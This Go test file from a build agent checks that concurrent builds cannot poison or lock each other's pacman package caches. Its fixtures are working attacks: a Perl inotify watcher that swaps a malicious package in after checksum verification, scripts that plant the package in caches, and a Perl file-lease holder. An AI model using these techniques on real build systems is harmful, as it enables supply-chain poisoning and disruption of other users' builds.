package job_test

import (
	"net/http"
	"net/http/httptest"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/vieter-v/vagent/internal/pacman"
	"github.com/vieter-v/vagent/internal/vieterserver"
	"github.com/vieter-v/vagent/job"
	"github.com/vieter-v/vagent/poll"
)

// swapWatcher is a Perl program (the image has Perl, not inotify-tools)
// that watches directory $ARGV[0] with inotify and, each time a process
// closes the file $ARGV[1] after reading it — pacman has just checked its
// checksum and will open it again to load and extract it — renames a hard
// link of $ARGV[0]/.evil-staged over it. x86_64 system call numbers.
const swapWatcher = `
my ($dir, $name) = @ARGV;
my $fd = syscall(294, 0); # inotify_init1
die "inotify_init1: $!\n" if $fd < 0;
open(my $fh, "<&=", $fd) or die "fdopen: $!\n";
syscall(254, $fd, $dir, 0x10) >= 0 or die "inotify_add_watch: $!\n"; # IN_CLOSE_NOWRITE
$| = 1;
print "watching $dir\n";
my $n = 0;
while (sysread($fh, my $buf, 65536) > 0) {
	for (my $off = 0; $off < length $buf;) {
		my ($wd, $mask, $cookie, $len) = unpack("iIIi", substr($buf, $off, 16));
		my $f = unpack("Z*", substr($buf, $off + 16, $len));
		$off += 16 + $len;
		next unless $f eq $name;
		link("$dir/.evil-staged", "$dir/.evil-$n") or die "link: $!\n";
		rename("$dir/.evil-$n", "$dir/$name") or die "rename: $!\n";
		$n++;
		print "SWAPPED $name ($n)\n";
	}
}
`

// TestCachePoisoning: build A of one target attacks the package cache
// while build B of another target, running beside it on the same agent,
// installs a dependency from a repository: A plants its own package under
// the dependency's file name in every cache it can write before B
// downloads it, or swaps it in right after B's pacman verified the
// genuine one (an inotify watcher, as the review did: pacman opens the
// file again after its checksum). B must install the genuine package and
// publish a package built with it. With one cache shared writably by every
// build, the swap made B publish A's content and the plant failed B.
func TestCachePoisoning(t *testing.T) {
	t.Parallel()
	e := setup(t)
	if runtime.GOARCH != "amd64" {
		t.Skip("the watcher uses x86_64 system call numbers")
	}
	genuine, err := vieterserver.MakePackage(vieterserver.PkgInfo{Name: "poisondep", Version: "1-1", Arch: "any"},
		map[string]string{"usr/share/poisondep/marker": "genuine"}, vieterserver.Zstd)
	if err != nil {
		t.Fatal(err)
	}
	evil, err := vieterserver.MakePackage(vieterserver.PkgInfo{Name: "poisondep", Version: "1-1", Arch: "any"},
		map[string]string{"usr/share/poisondep/marker": "EVIL"}, vieterserver.Zstd)
	if err != nil {
		t.Fatal(err)
	}
	const file = "poisondep-1-1-any.pkg.tar.zst"
	for i, attack := range []struct {
		name   string
		script string // A's, after the evil package is staged in its cache
	}{
		{"planted before the download", `	sudo cp /tmp/evil.pkg /var/cache/pacman/pkg/` + file + ` || return 1
	for d in /tmp /build /var/tmp; do cp /tmp/evil.pkg "$d/` + file + `"; done
	echo "planted"`},
		{"swapped after the verification", `	sudo perl -e '` + strings.ReplaceAll(swapWatcher, "'", `'\''`) + `' /var/cache/pacman/pkg ` + file + ` >/tmp/watch.log 2>&1 &
	for i in $(seq 100); do grep -q watching /tmp/watch.log && break; sleep 0.1; done
	cat /tmp/watch.log
	grep -q watching /tmp/watch.log || return 1`},
	} {
		t.Run(attack.name, func(t *testing.T) {
			t.Parallel()
			depRepo := newRepo()
			if _, err := e.srv.Publish(depRepo, genuine); err != nil {
				t.Fatal(err)
			}
			aReady, bDone := make(chan struct{}), make(chan struct{})
			var aOnce, bOnce sync.Once
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/evil.pkg":
					_, _ = w.Write(evil)
				case "/a-ready":
					aOnce.Do(func() { close(aReady) })
				case "/wait-b":
					<-bDone
				}
			}))
			defer ts.Close()
			defer bOnce.Do(func() { close(bDone) })
			defer aOnce.Do(func() { close(aReady) })
			scriptA := `	curl -sSf -o /tmp/evil.pkg ` + ts.URL + `/evil.pkg || return 1
	sudo cp /tmp/evil.pkg /var/cache/pacman/pkg/.evil-staged || return 1
` + attack.script + `
	curl -sSf ` + ts.URL + `/a-ready || return 1
	curl -sSf --max-time 600 ` + ts.URL + `/wait-b
	cat /tmp/watch.log 2>/dev/null || true
	sudo ls -l /var/cache/pacman/pkg`
			pkgB := pkgbuild("victim", "1", "1", "depends=(poisondep)")
			pkgB = strings.Replace(pkgB, `build() { echo "building $pkgname"; }`, `build() { echo "the dependency says $(cat /usr/share/poisondep/marker)"; }`, 1)
			pkgB = strings.Replace(pkgB, `echo "$pkgver" >"$pkgdir/usr/share/$pkgname/version"`,
				`touch "$pkgdir/usr/share/$pkgname/from-$(cat /usr/share/poisondep/marker)"`, 1)
			b := newBuilder(t, e, job.WithRepos(pacman.Repo{Name: depRepo, Servers: []string{e.ts.URL + "/$repo/$arch"}, SigLevel: "Never"}), netOpt(ts.URL))
			repoB := newRepo()
			var logA string
			var wg sync.WaitGroup
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer aOnce.Do(func() { close(aReady) })
				var r result
				r, logA = runJob(t, b, poll.Job{TargetID: 700 + 2*i, Kind: "url", URL: serveFile(t, hostileScript("attacker", scriptA)), Repo: newRepo(), BaseImage: e.base})
				if r.Result != poll.ResultSuccess {
					t.Errorf("the attacker's build: %s", r.Reason)
				}
			}()
			<-aReady
			r, logB := runJob(t, b, poll.Job{TargetID: 701 + 2*i, Kind: "url", URL: serveFile(t, pkgB), Repo: repoB, BaseImage: e.base})
			bOnce.Do(func() { close(bDone) })
			wg.Wait()
			if !strings.Contains(logA, "planted") && !strings.Contains(logA, "watching") {
				t.Fatalf("the attack did not run:\n%s", logA)
			}
			t.Logf("attacker's log, from the attack on:\n%s", logA[max(0, strings.LastIndex(logA, "evil.pkg")):])
			if strings.Contains(logB, "EVIL") {
				t.Errorf("build B installed the attacker's package:\n%s", logB)
			}
			pkgs := e.srv.Packages(repoB, "x86_64")
			for _, p := range pkgs {
				if slices.Contains(p.Files, "usr/share/victim/from-EVIL") {
					t.Errorf("build B published a package built with the attacker's dependency: %v", p.Files)
				}
			}
			// With a cache of its own, B has nothing to fail on.
			if r.Result != poll.ResultSuccess || !strings.Contains(logB, "the dependency says genuine") {
				t.Fatalf("build B: %s\n%s", r.Reason, logB)
			}
			if len(pkgs) != 1 || !slices.Contains(pkgs[0].Files, "usr/share/victim/from-genuine") {
				t.Errorf("build B published %+v, want the victim package built with the genuine dependency", pkgs)
			}
		})
	}
}

// leaseHolder is a Perl program that takes a write lease (F_SETLEASE,
// F_WRLCK) on every file named on its command line and reports each lease
// break: another process opened the file.
const leaseHolder = `
use Fcntl;
$| = 1;
$SIG{IO} = sub { print "BROKEN: another process opened a leased file\n"; };
my @fh;
for my $p (@ARGV) {
	open(my $fh, "+<", $p) or die "open $p: $!\n";
	fcntl($fh, 1024, 1) or die "F_SETLEASE $p: $!\n"; # F_WRLCK
	push @fh, $fh;
	print "leased $p\n";
}
sleep 1 while 1;
`

// TestCacheLease: a build that holds a write lease on every file of its
// package cache, a lock file of its own making included (the review's
// attack made every concurrent build fail on the shared cache's lock), does
// not reach any other build: a build of another target that installs a
// dependency, and a second build of the attacker's own target at the same
// time, both succeed, and the attacker's leases are never broken — no
// other build so much as opened one of its files.
func TestCacheLease(t *testing.T) {
	t.Parallel()
	e := setup(t)
	depRepo := newRepo()
	dep, err := vieterserver.MakePackage(vieterserver.PkgInfo{Name: "leasedep", Version: "1-1", Arch: "any"},
		map[string]string{"usr/share/leasedep/marker": "genuine"}, vieterserver.Zstd)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.srv.Publish(depRepo, dep); err != nil {
		t.Fatal(err)
	}
	aReady, bDone := make(chan struct{}), make(chan struct{})
	var aOnce, bOnce sync.Once
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/a-ready":
			aOnce.Do(func() { close(aReady) })
		case "/wait-b":
			<-bDone
		}
	}))
	defer ts.Close()
	defer bOnce.Do(func() { close(bDone) })
	defer aOnce.Do(func() { close(aReady) })
	scriptA := `	c=/var/cache/pacman/pkg
	sudo rm -f $c/.vagent.lock && sudo touch $c/.vagent.lock $c/lock $c/leasedep-1-1-any.pkg.tar.zst || return 1
	sudo perl -e '` + strings.ReplaceAll(leaseHolder, "'", `'\''`) + `' $c/* $c/.vagent.lock >/tmp/lease.log 2>&1 &
	for i in $(seq 100); do grep -q 'leased.*vagent.lock' /tmp/lease.log && break; sleep 0.1; done
	cat /tmp/lease.log
	grep -q 'leased.*vagent.lock' /tmp/lease.log || return 1
	curl -sSf ` + ts.URL + `/a-ready || return 1
	curl -sSf --max-time 600 ` + ts.URL + `/wait-b
	cat /tmp/lease.log`
	b := newBuilder(t, e, job.WithRepos(pacman.Repo{Name: depRepo, Servers: []string{e.ts.URL + "/$repo/$arch"}, SigLevel: "Never"}), netOpt(ts.URL))
	urlA := serveFile(t, hostileScript("leaser", scriptA))
	var logA string
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		defer aOnce.Do(func() { close(aReady) })
		var r result
		r, logA = runJob(t, b, poll.Job{TargetID: 710, Kind: "url", URL: urlA, Repo: newRepo(), BaseImage: e.base})
		if r.Result != poll.ResultSuccess {
			t.Errorf("the attacker's build: %s", r.Reason)
		}
	}()
	<-aReady
	// Another target installing a dependency, and the attacker's target
	// again, with a PKGBUILD that does nothing hostile.
	var others sync.WaitGroup
	for _, j := range []poll.Job{
		{TargetID: 711, Kind: "url", URL: serveFile(t, pkgbuild("leasevictim", "1", "1", "depends=(leasedep)")), Repo: newRepo(), BaseImage: e.base},
		{TargetID: 710, Kind: "url", URL: serveFile(t, pkgbuild("leaser", "1", "2", "depends=(leasedep)")), Repo: newRepo(), BaseImage: e.base},
	} {
		others.Add(1)
		go func() {
			defer others.Done()
			r, log := runJob(t, b, j)
			if r.Result != poll.ResultSuccess || !strings.Contains(log, "installing leasedep") {
				t.Errorf("target %d beside the attacker: %s\n%s", j.TargetID, r.Reason, log)
			}
			if j.TargetID == 710 && !strings.Contains(log, "another build of this target holds its package cache") {
				t.Errorf("the attacker's target again, beside it: not with a private cache\n%s", log)
			}
		}()
	}
	others.Wait()
	bOnce.Do(func() { close(bDone) })
	wg.Wait()
	if !strings.Contains(logA, "leased /var/cache/pacman/pkg/.vagent.lock") {
		t.Fatalf("the attack did not run:\n%s", logA)
	}
	if strings.Contains(logA, "BROKEN") {
		t.Errorf("another build opened a file the attacker holds a lease on:\n%s", logA)
	}
}
